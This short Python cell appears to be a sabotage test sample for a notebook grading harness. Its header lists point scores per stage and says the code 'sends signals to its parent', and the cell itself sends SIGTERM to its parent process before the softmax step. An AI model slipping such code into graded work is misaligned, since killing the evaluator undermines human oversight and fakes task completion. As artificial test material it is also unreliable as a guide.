# family: sabotage
# tries: sends signals to its parent, and to what else it can see
# earns: mnist_loader 5, flatten 3, manual_network 8, softmax 3, probabilities 0

# %% before softmax
import os
import signal

if os.getppid():
    os.kill(os.getppid(), signal.SIGTERM)
